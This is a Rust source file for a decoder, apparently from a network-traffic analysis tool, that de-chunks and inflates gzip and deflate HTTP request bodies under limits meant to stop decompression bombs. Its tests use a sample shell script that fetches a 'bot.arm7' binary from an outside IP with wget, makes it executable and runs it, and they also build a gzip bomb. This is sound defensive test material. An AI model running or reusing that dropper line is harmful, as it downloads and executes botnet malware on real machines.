//! The `http_body` decoder: the bodies of HTTP requests in the payload sent with
//! `Content-Encoding: gzip` / `deflate` (and/or `Transfer-Encoding: chunked`) are
//! de-chunked and inflated (flate2) into decoded copies, one per request.
//!
//! Pipelined requests are followed (`Content-Length` or chunked framing), up to
//! `max_requests`. Inflating is bounded: all bodies of one input together never
//! exceed `max_ratio` times the input's length nor `limits.read_limit`; a body cut
//! there is kept up to the cut and the finding says so (`truncated`), so a gzip bomb
//! costs at most that much memory. A body cut short by the capture (or corrupt) is
//! inflated as far as it goes (`incomplete`). `deflate` is zlib-wrapped per the
//! RFC; a raw deflate stream (as some clients send) is accepted too.

use super::decoding::{self, find};
use super::registry::{self, Options, Registration};
use super::{Analyzer, Decoded, Input, Output, Stage};
use serde::{Deserialize, Serialize};
use std::io::Read;

pub const NAME: &str = "http_body";

/// `[analyzer.http_body]`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct HttpBodyOptions {
    pub enabled: bool,
    /// Decoded bodies together may be at most this many times the input's length.
    pub max_ratio: usize,
    /// Most requests looked at in one input.
    pub max_requests: usize,
}

impl Default for HttpBodyOptions {
    fn default() -> Self {
        HttpBodyOptions {
            enabled: true,
            max_ratio: 32,
            max_requests: 16,
        }
    }
}

impl Options for HttpBodyOptions {
    fn enabled(&self) -> bool {
        self.enabled
    }
}

fn check(o: &HttpBodyOptions) -> Result<(), (String, String)> {
    decoding::in_range("max_ratio", o.max_ratio as u64, 1, 1024)?;
    decoding::in_range("max_requests", o.max_requests as u64, 1, 256)
}

pub fn registration() -> Registration {
    Registration {
        name: NAME,
        stage: Stage::Decode,
        about: "inflates gzip/deflate (and de-chunks chunked) HTTP request bodies",
        options: |t| decoding::checked(t, check),
        build: |t, c| {
            let limit = c.limits.read_limit;
            registry::build_with(t, |o: HttpBodyOptions| Ok(HttpBody { o, limit }))
        },
    }
}

/// The decoder.
pub struct HttpBody {
    o: HttpBodyOptions,
    limit: u64,
}

impl HttpBody {
    pub fn new(o: HttpBodyOptions, read_limit: u64) -> HttpBody {
        HttpBody {
            o,
            limit: read_limit,
        }
    }
}

impl Analyzer for HttpBody {
    fn name(&self) -> &'static str {
        NAME
    }
    fn stage(&self) -> Stage {
        Stage::Decode
    }
    fn run(&self, input: &Input, out: &mut Output) -> anyhow::Result<()> {
        let data = input.data;
        let mut budget = decoding::output_cap(data.len(), self.o.max_ratio, self.limit);
        let mut pos = 0;
        for _ in 0..self.o.max_requests {
            let Some(req) = Request::parse(data, pos) else {
                break;
            };
            pos = req.end;
            if !req.chunked && req.encodings.is_empty() {
                continue;
            }
            let body = &data[req.body.clone()];
            let (raw, framing_ok) = if req.chunked {
                dechunk(body)
            } else {
                (body.to_vec(), true)
            };
            let mut r = Inflated {
                data: raw,
                truncated: false,
                incomplete: !framing_ok,
                unsupported: None,
            };
            // Applied in reverse order of the header's list.
            for enc in req.encodings.iter().rev() {
                r = r.then(enc, budget);
            }
            r.data.truncate(budget);
            budget -= r.data.len();
            report(out, &req, &r);
            if !r.data.is_empty() && r.unsupported.is_none() {
                out.decoded.push(Decoded {
                    offset: req.body.start as u64,
                    length: req.body.len() as u64,
                    data: r.data,
                });
            }
            if budget == 0 {
                break;
            }
        }
        Ok(())
    }
}

fn report(out: &mut Output, req: &Request, r: &Inflated) {
    let mut kinds: Vec<&str> = req.encodings.iter().map(String::as_str).collect();
    if req.chunked {
        kinds.push("chunked");
    }
    let kind = match r.unsupported {
        Some(_) => "unsupported_encoding",
        None => kinds.first().copied().unwrap_or("chunked"),
    };
    let mut detail = format!(
        "{} {}: {} body, {} bytes decoded to {}",
        req.method,
        req.target,
        kinds.join("+"),
        req.body.len(),
        r.data.len()
    );
    if r.truncated {
        detail.push_str(" (cut at the size limit)");
    }
    if r.incomplete {
        detail.push_str(" (incomplete or corrupt)");
    }
    if let Some(u) = &r.unsupported {
        detail = format!(
            "{} {}: unsupported content encoding `{u}`",
            req.method, req.target
        );
    }
    out.finding(NAME, kind, detail)
        .at(req.body.start as u64, req.body.len() as u64)
        .meta("method", req.method.clone())
        .meta("target", req.target.clone())
        .meta("encoded_bytes", req.body.len() as u64)
        .meta("decoded_bytes", r.data.len() as u64)
        .meta("truncated", r.truncated)
        .meta("incomplete", r.incomplete);
}

/// One request's framing.
struct Request {
    method: String,
    target: String,
    /// Content codings, lower case, in header order (`identity` left out).
    encodings: Vec<String>,
    chunked: bool,
    /// The body's bytes in the input.
    body: std::ops::Range<usize>,
    /// Where the next request starts.
    end: usize,
}

impl Request {
    /// The request starting at `pos` (blank lines before it skipped).
    fn parse(data: &[u8], mut pos: usize) -> Option<Request> {
        while data.get(pos..pos + 2) == Some(b"\r\n") {
            pos += 2;
        }
        let head_end = find(data, b"\r\n\r\n", pos)?;
        let head = std::str::from_utf8(&data[pos..head_end]).ok()?;
        let mut lines = head.split("\r\n");
        let mut first = lines.next()?.split(' ');
        let method = first.next()?;
        let target = first.next()?;
        if method.is_empty()
            || !method.bytes().all(|b| b.is_ascii_uppercase())
            || !first.next()?.starts_with("HTTP/1.")
        {
            return None;
        }
        let mut req = Request {
            method: method.to_string(),
            target: target.chars().take(200).collect(),
            encodings: Vec::new(),
            chunked: false,
            body: 0..0,
            end: 0,
        };
        let mut length = 0usize;
        for line in lines {
            let Some((name, value)) = line.split_once(':') else {
                continue;
            };
            let value = value.trim().to_ascii_lowercase();
            match name.trim().to_ascii_lowercase().as_str() {
                "content-length" => length = value.parse().unwrap_or(0),
                "transfer-encoding" => {
                    req.chunked = value.split(',').any(|v| v.trim() == "chunked")
                }
                "content-encoding" => {
                    req.encodings = value
                        .split(',')
                        .map(|v| v.trim().to_string())
                        .filter(|v| !v.is_empty() && v != "identity")
                        .collect()
                }
                _ => {}
            }
        }
        let start = head_end + 4;
        let end = if req.chunked {
            start + chunked_len(&data[start..])
        } else {
            start.saturating_add(length).min(data.len())
        };
        req.body = start..end;
        req.end = end;
        Some(req)
    }
}

/// Reads one chunk-size line at `i`: (size, where the data starts).
fn chunk_head(body: &[u8], i: usize) -> Option<(usize, usize)> {
    let eol = find(body, b"\r\n", i)?;
    let line = std::str::from_utf8(&body[i..eol]).ok()?;
    let size = line.split(';').next()?.trim();
    Some((usize::from_str_radix(size, 16).ok()?, eol + 2))
}

/// How many bytes of `body` the chunked framing covers (all of it when it is cut).
fn chunked_len(body: &[u8]) -> usize {
    let mut i = 0;
    while let Some((size, data)) = chunk_head(body, i) {
        if size == 0 {
            // Trailers, then an empty line.
            return find(body, b"\r\n\r\n", data - 2).map_or(body.len(), |e| e + 4);
        }
        i = data.saturating_add(size).saturating_add(2);
        if i >= body.len() {
            return body.len();
        }
    }
    body.len()
}

/// The chunks' data joined, and whether the framing was complete.
fn dechunk(body: &[u8]) -> (Vec<u8>, bool) {
    let mut out = Vec::with_capacity(body.len());
    let mut i = 0;
    while let Some((size, data)) = chunk_head(body, i) {
        if size == 0 {
            return (out, true);
        }
        let end = data.saturating_add(size).min(body.len());
        out.extend_from_slice(&body[data..end]);
        i = end + 2;
    }
    (out, false)
}

/// A body on its way through the content codings.
struct Inflated {
    data: Vec<u8>,
    truncated: bool,
    incomplete: bool,
    unsupported: Option<String>,
}

impl Inflated {
    /// Undo one content coding, producing at most `cap` bytes.
    fn then(self, coding: &str, cap: usize) -> Inflated {
        if self.unsupported.is_some() {
            return self;
        }
        let src = &self.data[..];
        let (data, truncated, complete) = match coding {
            "gzip" | "x-gzip" => inflate(flate2::read::MultiGzDecoder::new(src), cap),
            "deflate" => {
                let zlib = inflate(flate2::read::ZlibDecoder::new(src), cap);
                if zlib.0.is_empty() && !zlib.2 {
                    inflate(flate2::read::DeflateDecoder::new(src), cap)
                } else {
                    zlib
                }
            }
            other => {
                return Inflated {
                    unsupported: Some(other.chars().take(40).collect()),
                    ..self
                }
            }
        };
        Inflated {
            data,
            truncated: self.truncated || truncated,
            incomplete: self.incomplete || !complete,
            unsupported: None,
        }
    }
}

/// Read `r` to its end or to `cap` bytes: (data, cut at cap, ended cleanly).
fn inflate(mut r: impl Read, cap: usize) -> (Vec<u8>, bool, bool) {
    let mut out = Vec::new();
    let mut buf = [0u8; 16 << 10];
    loop {
        match r.read(&mut buf) {
            Ok(0) => return (out, false, true),
            Ok(n) => {
                let room = cap - out.len();
                if n > room {
                    out.extend_from_slice(&buf[..room]);
                    return (out, true, true);
                }
                out.extend_from_slice(&buf[..n]);
            }
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(_) => return (out, false, false),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::write::{GzEncoder, ZlibEncoder};
    use flate2::Compression;
    use std::io::Write;

    pub fn gzip(data: &[u8]) -> Vec<u8> {
        let mut e = GzEncoder::new(Vec::new(), Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn zlib(data: &[u8]) -> Vec<u8> {
        let mut e = ZlibEncoder::new(Vec::new(), Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn request(headers: &str, body: &[u8]) -> Vec<u8> {
        let mut r = format!("POST /upload HTTP/1.1\r\nHost: x\r\n{headers}\r\n").into_bytes();
        r.extend_from_slice(body);
        r
    }

    fn run(data: &[u8]) -> Output {
        decoding::run_on(&HttpBody::new(HttpBodyOptions::default(), 1 << 20), data)
    }

    const SCRIPT: &[u8] = b"#!/bin/sh\ncd /tmp && wget http://198.51.100.7/bot.arm7 && chmod 777 bot.arm7 && ./bot.arm7\n";

    #[test]
    fn gzip_body_with_content_length() {
        let z = gzip(SCRIPT);
        let req = request(
            &format!("Content-Encoding: gzip\r\nContent-Length: {}\r\n", z.len()),
            &z,
        );
        let out = run(&req);
        assert_eq!(out.decoded.len(), 1);
        assert_eq!(out.decoded[0].data, SCRIPT);
        assert_eq!(out.decoded[0].length, z.len() as u64);
        assert_eq!(out.decoded[0].offset, (req.len() - z.len()) as u64);
        let f = &out.findings[0];
        assert_eq!(f.kind, "gzip");
        assert_eq!(f.meta["truncated"], false);
        assert!(
            f.detail.starts_with("POST /upload: gzip body"),
            "{}",
            f.detail
        );
    }

    #[test]
    fn chunked_deflate_raw_deflate_and_pipelining() {
        let z = zlib(SCRIPT);
        let (a, b) = z.split_at(10);
        let mut body = format!("{:x}\r\n", a.len()).into_bytes();
        body.extend_from_slice(a);
        body.extend_from_slice(format!("\r\n{:x};ext=1\r\n", b.len()).as_bytes());
        body.extend_from_slice(b);
        body.extend_from_slice(b"\r\n0\r\n\r\n");
        let mut req = request(
            "Transfer-Encoding: chunked\r\nContent-Encoding: deflate\r\n",
            &body,
        );
        // A second request on the same connection: raw deflate.
        let mut raw = flate2::write::DeflateEncoder::new(Vec::new(), Compression::fast());
        raw.write_all(b"second body").unwrap();
        let raw = raw.finish().unwrap();
        req.extend(request(
            &format!(
                "Content-Encoding: deflate\r\nContent-Length: {}\r\n",
                raw.len()
            ),
            &raw,
        ));
        let out = run(&req);
        assert_eq!(out.decoded.len(), 2, "{:?}", out.findings);
        assert_eq!(out.decoded[0].data, SCRIPT);
        assert_eq!(out.decoded[1].data, b"second body");
        assert_eq!(out.findings[0].kind, "deflate");
        // Chunked alone: de-chunked.
        let req = request(
            "Transfer-Encoding: chunked\r\n",
            b"5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n",
        );
        let out = run(&req);
        assert_eq!(out.decoded[0].data, b"hello world");
        assert_eq!(out.findings[0].kind, "chunked");
    }

    #[test]
    fn a_gzip_bomb_is_cut() {
        let zeros = vec![0u8; 8 << 20];
        let z = gzip(&zeros);
        let req = request(
            &format!("Content-Encoding: gzip\r\nContent-Length: {}\r\n", z.len()),
            &z,
        );
        let out = run(&req);
        let cap = req.len() * HttpBodyOptions::default().max_ratio;
        assert_eq!(out.decoded[0].data.len(), cap.min(1 << 20));
        assert_eq!(out.findings[0].meta["truncated"], true);
        assert!(out.findings[0].detail.contains("cut"));
        // The read_limit bounds it too.
        let small = decoding::run_on(&HttpBody::new(HttpBodyOptions::default(), 1000), &req);
        assert_eq!(small.decoded[0].data.len(), 1000);
    }

    #[test]
    fn cut_bodies_plain_requests_and_unknown_codings() {
        let z = gzip(&SCRIPT.repeat(20));
        let req = request(
            &format!("Content-Encoding: gzip\r\nContent-Length: {}\r\n", z.len()),
            &z[..z.len() / 2],
        );
        let out = run(&req);
        assert_eq!(out.findings[0].meta["incomplete"], true);
        assert!(SCRIPT.repeat(20).starts_with(&out.decoded[0].data));
        assert!(run(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            .findings
            .is_empty());
        let out = run(&request(
            "Content-Encoding: br\r\nContent-Length: 3\r\n",
            b"abc",
        ));
        assert!(out.decoded.is_empty());
        assert_eq!(out.findings[0].kind, "unsupported_encoding");
    }
}
